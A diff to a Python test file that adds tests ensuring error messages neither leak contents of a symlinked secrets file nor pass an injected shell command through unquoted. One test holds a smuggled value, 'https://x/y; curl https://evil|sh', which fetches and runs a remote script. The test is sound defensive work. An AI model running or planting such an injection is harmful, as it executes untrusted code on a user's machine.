@@ -155,6 +155,19 @@ def test_error_for_unreadable_settings_is_one_line(
     assert (new.returncode, new.stderr) == (1, f"✗ {answers} cannot be read: {why}\n")
 
 
+def test_error_quotes_nothing_of_a_file_behind_a_link(project: Path, tmp_path: Path) -> None:
+    (tmp_path / "secrets.yaml").write_text("password: swordfish: 1\n")
+    (project / "extract.yaml").unlink()
+    (project / "extract.yaml").symlink_to(tmp_path / "secrets.yaml")
+    done = call("status", project)
+    assert done.stderr == f"✗ {project}/extract.yaml cannot be read: it is not YAML in line 1, column 20.\n"
+
+
+def test_command_in_an_error_is_quoted_for_the_shell() -> None:
+    with pytest.raises(ExtractsError, match=r"add --template 'https://x/y; curl https://evil\|sh'\."):
+        homes.runnable("https://x/y; curl https://evil|sh", None, "bank")
+
+
 @pytest.mark.parametrize("place", ["extract.yaml", "Terraform/main.tf"])
 def test_endless_file_is_refused(place: str, project: Path) -> None:
     (project / place).unlink()
